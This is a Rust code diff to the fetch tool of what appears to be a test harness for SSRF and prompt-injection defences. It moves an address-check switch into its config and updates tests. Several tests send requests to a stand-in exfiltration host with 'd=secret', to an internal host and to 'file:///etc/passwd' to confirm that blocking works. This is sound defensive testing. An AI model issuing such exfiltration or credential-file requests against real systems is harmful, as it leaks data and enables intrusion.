@@ -28,6 +28,10 @@ pub struct FetchConfig {
     /// exfiltration host at a sink of its own here, so that an injected "fetch this URL" that
     /// gets through is observed, not stopped by the machine having no internet.
     pub sinks: BTreeMap<String, std::net::SocketAddr>,
+    /// The fetch's own address check (on by default; refused off with `production`). It is the
+    /// defence behind the input guard's SSRF patterns (`guard.ssrf`), so it has a switch of its
+    /// own: only a measurement of what the defences are worth ("guards off") turns it off.
+    pub check_addresses: bool,
 }
 
 impl Default for FetchConfig {
@@ -37,6 +41,7 @@ impl Default for FetchConfig {
             max_bytes: 64 * 1024,
             max_redirects: 3,
             sinks: BTreeMap::new(),
+            check_addresses: true,
         }
     }
 }
@@ -79,7 +84,7 @@ fn sink_of(cfg: &FetchConfig, raw: &str) -> Option<Checked> {
     })
 }
 
-/// The addresses of `raw` without the address check (`guard.ssrf: false`, guards off): still
+/// The addresses of `raw` without the address check (`check_addresses: false`, guards off): still
 /// only http(s), resolved once and pinned, so that what the check would have stopped is reached.
 async fn unchecked(raw: &str, resolver: &dyn Resolver) -> Result<Checked, ssrf::SsrfError> {
     let url = url::Url::parse(raw.trim()).map_err(|e| ssrf::SsrfError::Malformed(e.to_string()))?;
@@ -102,14 +107,10 @@ async fn unchecked(raw: &str, resolver: &dyn Resolver) -> Result<Checked, ssrf::
     })
 }
 
-/// Fetches `url` under the guard, following up to `max_redirects` redirects. With `check_addresses`
-/// false (the SSRF check switched off, `guard.ssrf`) any address is fetched: only a test of what
-/// the check is worth turns it off.
-pub async fn fetch(
-    cfg: &FetchConfig,
-    url: &str,
-    check_addresses: bool,
-) -> Result<Value, ToolError> {
+/// Fetches `url` under the guard, following up to `max_redirects` redirects. With
+/// `cfg.check_addresses` off any address is fetched.
+pub async fn fetch(cfg: &FetchConfig, url: &str) -> Result<Value, ToolError> {
+    let check_addresses = cfg.check_addresses;
     let resolver = cfg.resolver();
     let mut next = url.to_string();
     for _ in 0..=cfg.max_redirects {
@@ -243,7 +244,7 @@ mod tests {
             "http://user:pw@example.test/",
             "http://unknown.example.test/",
         ] {
-            let why = code(fetch(&c, url, true).await);
+            let why = code(fetch(&c, url).await);
             assert!(why.starts_with("ssrf_blocked"), "{url}: {why}");
         }
     }
@@ -309,16 +310,17 @@ mod tests {
         let addr = page_server().await;
         let mut c = cfg(&[("internal.example.test", "127.0.0.1")]);
         c.sinks.insert("evil.attacker.test".into(), addr);
-        let v = fetch(&c, "http://evil.attacker.test/page?d=secret", true)
+        let v = fetch(&c, "http://evil.attacker.test/page?d=secret")
             .await
             .unwrap();
         assert_eq!(v["text"], "Opening hours: nine to five.");
         // An internal host: refused by the check, reached without it.
         let internal = format!("http://internal.example.test:{}/page", addr.port());
-        assert!(code(fetch(&c, &internal, true).await).starts_with("ssrf_blocked"));
-        let v = fetch(&c, &internal, false).await.unwrap();
+        assert!(code(fetch(&c, &internal).await).starts_with("ssrf_blocked"));
+        c.check_addresses = false;
+        let v = fetch(&c, &internal).await.unwrap();
         assert_eq!(v["status"], 200);
         // Still http(s) only.
-        assert!(code(fetch(&c, "file:///etc/passwd", false).await).starts_with("ssrf_blocked"));
+        assert!(code(fetch(&c, "file:///etc/passwd").await).starts_with("ssrf_blocked"));
     }
 }
